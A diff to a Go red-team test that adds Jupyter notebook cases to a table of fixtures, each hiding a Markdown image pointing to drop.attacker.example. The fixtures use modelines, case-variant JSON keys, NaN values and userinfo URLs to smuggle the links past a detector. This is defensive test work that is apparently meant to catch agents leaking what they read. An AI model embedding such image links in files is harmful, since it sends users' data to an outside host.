@@ -57,6 +57,8 @@ func TestRedTeamImagesCarryWhatTheAgentRead(t *testing.T) {
 		{"Lektor's contents.lr is Markdown", contained, nil, map[string]string{"site/contents.lr": "body:\n\n![ok](" + leak + ")\n"}, "site/contents.lr (an image from drop.attacker.example)"},
 		{"a Vim modeline makes a text file Markdown", contained, nil, map[string]string{"notes.txt": "![ok](" + leak + ")\n\n<!-- vim: set ft=markdown: -->\n"}, "notes.txt (an image from drop.attacker.example)"},
 		{"an Emacs modeline makes a file without extension Org", contained, nil, map[string]string{"NOTES": "# -*- mode: org -*-\n[[" + leak + "]]\n"}, "NOTES (an image from drop.attacker.example)"},
+		{"a notebook's cells hidden behind a key of another case", contained, nil, map[string]string{"case.ipynb": `{"cells": [{"cell_type": "markdown", "source": "![p](` + leak + `)"}], "Cells": [], "nbformat": 4}`}, "case.ipynb (an image from drop.attacker.example)"},
+		{"a notebook Go's JSON refuses (NaN)", contained, nil, map[string]string{"nan.ipynb": `{"cells": [{"cell_type": "markdown", "source": "![p](` + leak + `)", "metadata": {"x": NaN}}], "nbformat": 4}`}, "nan.ipynb (an image from drop.attacker.example)"},
 		{"github.com behind a user name", contained, nil, map[string]string{"x.md": "![x](https://github.com@drop.attacker.example/p)\n"}, "x.md (an image from drop.attacker.example)"},
 		{"a Pages site is its owner's", contained, nil, map[string]string{"x.md": "![x](https://attacker.github.io/p?d=1)\n"}, "x.md (an image from attacker.github.io)"},
 		{"an allowed host", contained, nil, map[string]string{"README.md": "![ci](https://img.shields.io/badge/x-y-green)\n"}, ""},
